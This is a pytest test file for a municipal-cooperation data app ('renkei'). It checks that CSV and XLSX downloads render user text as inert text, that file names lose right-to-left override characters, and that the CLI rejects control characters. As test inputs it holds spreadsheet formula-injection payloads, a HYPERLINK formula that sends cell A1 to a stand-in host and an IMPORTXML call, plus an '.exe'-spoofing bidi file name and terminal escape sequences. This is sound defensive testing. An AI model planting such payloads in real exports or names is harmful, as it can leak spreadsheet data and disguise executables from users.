"""Every download neutral (issue 22, failures 6 and 7): the comparison's CSV wrote sphere names raw in its header
row and its XLSX made such a header a live formula; a right-to-left override passed into file names; the CLI
took a line feed in a sphere's name."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from clirun import run
from renkei.ingest import read_sample
from renkei.store import SphereSpec, Store
from renkei.store.accounts import Actor
from renkei.web.app import create_app
from renkei.web.files import content_disposition

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"見る")'


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, str]]:
    store = Store.open(f"sqlite:///{tmp_path_factory.mktemp('neutral') / 'r.db'}")
    reading = read_sample()
    store.import_reading(reading, SphereSpec(key="evil", name=EVIL), author="test", message="x")
    code = next(m.code for m in reading.vision.municipalities if m.code)
    with TestClient(create_app(store)) as client:
        yield client, code
    store.close()


def test_the_comparisons_header_of_sphere_names_is_neutral(client: tuple[TestClient, str]) -> None:
    web, code = client
    answer = web.get("/compare/export/csv", params={"municipality": code})
    assert answer.status_code == 200, answer.text
    header = next(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert "'" + EVIL in header, header  # the sphere's name heads a column, as text
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header), header
    book = load_workbook(io.BytesIO(web.get("/compare/export/xlsx", params={"municipality": code}).content))
    sheet = book.active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert EVIL in [c.value for c in cells]  # kept exactly, as text
    assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]


def test_file_names_lose_bidirectional_and_control_characters() -> None:
    header = content_disposition("report\u202efdp.exe\u2066\r\n.csv", "report.csv")
    name = unquote(header.split("filename*=UTF-8''", 1)[1])
    assert name == "reportfdp.exe.csv"


def test_a_sphere_name_with_a_line_feed_is_refused_by_the_cli(tmp_path: Path, seed_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'r.db'}"
    done = run("import", seed_path, "--db", db, "--sphere", "abc", "--new-sphere", "--name", "a\nb")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "Traceback" not in done.stderr and "abc" in done.stderr
    listed = run("spheres", "--db", db)
    assert "abc" not in listed.stdout  # nothing written


def test_a_file_name_that_looks_like_markup_is_a_clean_error() -> None:
    """Failure 4: ``nosuch[/b].csv`` made the CLI print a rich MarkupError traceback and exit 1."""
    done = run("check", "nosuch[/b].csv")
    assert done.returncode == 2, done.stderr
    assert "nosuch[/b].csv" in done.stderr and "Traceback" not in done.stderr and "MarkupError" not in done.stderr


# Every route that writes CSV or XLSX, over a sphere whose texts a spreadsheet would run -----------------------

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
ROUTE_KEY = "formulae"
ROUTE_NAME = "@SUM(1+1)広域連携"  # a sphere's name heads the comparison's columns and names the files
RENAMED = ('=IMPORTXML("http://example.invalid","//a")', "+81-3-0000", "-2+3", "@HYPERLINK(1)")
USER_TEXT = ("IMPORTXML", "HYPERLINK", "+81-3-0000", "-2+3", "@SUM(1+1)")


def _runs(cell: object) -> bool:
    """Whether a spreadsheet would run a CSV cell: text starting with a formula character (a number is no
    formula: -3)."""
    text = str(cell)
    if not text.startswith(FORMULAS):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def _csv_cells(data: bytes) -> list[str]:
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:  # the CP932 variant
        text = data.decode("cp932")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.fixture(scope="module")
def formulae(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, dict[str, str], str]]:
    """A sphere whose first projects are named like formulas (revision 1), then renamed again (revision 2), its
    imports' messages formulas too; a secretariat's token for its audit trail."""
    from renkei.core.permissions import RoleName

    store = Store.open(f"sqlite:///{tmp_path_factory.mktemp('formulae') / 'r.db'}")
    first = read_sample()
    for project, name in zip(first.vision.projects, RENAMED, strict=False):
        project.name = name + project.name
        project.description = name
    store.import_reading(first, SphereSpec(key=ROUTE_KEY, name=ROUTE_NAME), author="test", message=EVIL)
    second = read_sample()
    for project, name in zip(second.vision.projects, reversed(RENAMED), strict=False):
        project.name = name + "（改）"
    store.import_reading(second, SphereSpec(key=ROUTE_KEY), author="test", message="+" + EVIL)
    store.accounts.add("secretary", "a long enough password 1234")
    # The audit trail records the user agent of the request that made a change: a client chooses it.
    store.accounts.grant("secretary", ROUTE_KEY, RoleName.SECRETARIAT, actor=Actor(None, "192.0.2.1", EVIL))
    _, token = store.accounts.create_token("secretary", "neutral")
    town = next(m for m in first.vision.municipalities if m.code and m.name in first.vision.projects[0].participants)
    with TestClient(create_app(store)) as client:
        yield client, {"Authorization": f"Bearer {token}"}, town.code or ""
    store.close()


def _routes(code: str) -> list[str]:
    from renkei.render import document_renderers, renderers

    tables = [r.name for r in renderers() if r.extension in ("csv", "xlsx")]
    documents = [r.name for r in document_renderers() if r.extension in ("csv", "xlsx")]
    assert tables and documents
    routes = [f"/spheres/{ROUTE_KEY}/export/{name}" for name in tables]
    for name in documents:
        routes += [f"/spheres/{ROUTE_KEY}/diff/export/{name}?from=1&to=2&by={by}" for by in ("project", "municipality")]
        routes.append(f"/spheres/{ROUTE_KEY}/diff/towns/{code}/export/{name}?from=1&to=2")
        routes.append(f"/spheres/{ROUTE_KEY}/agreements/{code}/export/{name}")
    routes += [f"/compare/export/{f}?municipality={code}" for f in ("csv", "xlsx")]
    routes += ["/search/export/csv?q=HYPERLINK", "/search/export/csv?q=IMPORTXML"]
    routes += [f"/api/spheres/{ROUTE_KEY}/audit?format=csv"]
    return routes


def test_every_csv_and_xlsx_route_writes_formulas_as_text(formulae: tuple[TestClient, dict[str, str], str]) -> None:
    """The vision's table in every CSV/XLSX format, the amendment lists, a town's annex, its agreement schedule,
    the comparison, search hits and the audit trail: the formula-like texts are in each file, and never as a
    formula (CSV: after an apostrophe; XLSX: a text cell)."""
    client, token, code = formulae
    for route in _routes(code):
        answer = client.get(route, headers=token)
        assert answer.status_code == 200, (route, answer.text[:300])
        if answer.content.startswith(b"PK"):
            book = load_workbook(io.BytesIO(answer.content))
            cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
            values = [str(c.value) for c in cells if c.data_type != "f"]
            # The table's own formulas (its computed counts, COUNTIF over the marks) are renkei's; no user text is one.
            live = [str(c.value) for c in cells if c.data_type == "f"]
            assert not [f for f in live if any(u in f for u in USER_TEXT)], (route, live[:3])
            assert not any(str(sheet.title).startswith(FORMULAS[:4]) for sheet in book.worksheets), route
        else:
            values = _csv_cells(answer.content)
            assert not [v for v in values if _runs(v)], (route, [v for v in values if _runs(v)][:5])
            values = [v[1:] if v.startswith("'") else v for v in values]
        said = "\n".join(values)
        assert any(name in said for name in (*RENAMED, EVIL, ROUTE_NAME)), (route, said[:300])


def test_the_data_packages_of_a_comparison_and_a_search_are_neutral_and_valid(
    formulae: tuple[TestClient, dict[str, str], str], tmp_path: Path
) -> None:
    """The comparison's package has the sphere's name as a column (its header) and search hits have the names as
    cells: neutral, and the package still valid (numbers stay numbers)."""
    import zipfile

    from frictionless import validate

    client, _, code = formulae
    for route, expected in (
        (f"/compare/datapackage.zip?municipality={code}", ROUTE_NAME),
        ("/search/datapackage.zip?q=HYPERLINK", RENAMED[3]),
        (f"/spheres/{ROUTE_KEY}/export/datapackage", RENAMED[0]),
    ):
        answer = client.get(route)
        assert answer.status_code == 200, (route, answer.text[:300])
        folder = tmp_path / route.strip("/").split("?")[0].replace("/", "_")
        with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
            archive.extractall(folder)
        cells = [cell for file in folder.glob("*.csv") for cell in _csv_cells(file.read_bytes())]
        assert not [c for c in cells if _runs(c)], (route, [c for c in cells if _runs(c)][:5])
        assert any(c.startswith("'" + expected) for c in cells), (route, cells[:20])
        report = validate(str(folder / "datapackage.json"))
        assert report.valid, (route, report.flatten(["rowNumber", "fieldName", "type", "note"]))


def test_a_download_named_after_a_sphere_loses_its_bidirectional_controls(tmp_path: Path) -> None:
    """A sphere named with a right-to-left override (allowed in a name: it is no control character) gives every
    download a file name without it, in both the UTF-8 name and the ASCII one."""
    store = Store.open(f"sqlite:///{tmp_path / 'r.db'}")
    store.import_reading(read_sample(), SphereSpec(key="bidi", name="圏域\u202etxt.exe\u2067"), author="t", message="x")
    with TestClient(create_app(store)) as client:
        for route in ("/spheres/bidi/export/csv", "/spheres/bidi/export/xlsx", "/spheres/bidi/export/datapackage"):
            answer = client.get(route)
            assert answer.status_code == 200, answer.text[:300]
            disposition = answer.headers["content-disposition"]
            name = unquote(disposition.split("filename*=UTF-8''", 1)[1])
            assert "圏域txt.exe" in name, name
            assert not any(c in unquote(disposition) for c in "\u202e\u2067\u200e\u200f"), disposition
    store.close()


def test_a_manifest_naming_a_sphere_with_control_characters_is_refused_whole(tmp_path: Path) -> None:
    """The manifest is a door too: a sphere named with an escape sequence and a CR is refused (exit 2, the name
    shown escaped, never sent to the terminal), and no sphere of the manifest is written."""
    import json

    folder = tmp_path / "national"
    made = run("synth", "--spheres", "2", "--years", "1", "--seed", "3", "-o", folder)
    assert made.returncode == 0, made.stderr
    manifest = folder / "manifest.jsonl"
    lines = manifest.read_text("utf-8").splitlines()
    entry = json.loads(lines[1])
    entry["name"] += "\x1b[2J\r"
    lines[1] = json.dumps(entry, ensure_ascii=False)
    manifest.write_text("\n".join(lines) + "\n", "utf-8")
    db = f"sqlite:///{tmp_path / 'r.db'}"
    done = run("import", "--manifest", folder, "--db", db)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "\x1b" not in done.stderr and "\\x1b[2J\\r" in done.stderr and entry["key"] in done.stderr
    listed = run("spheres", "--db", db)
    assert json.loads(lines[0])["key"] not in listed.stdout and entry["key"] not in listed.stdout
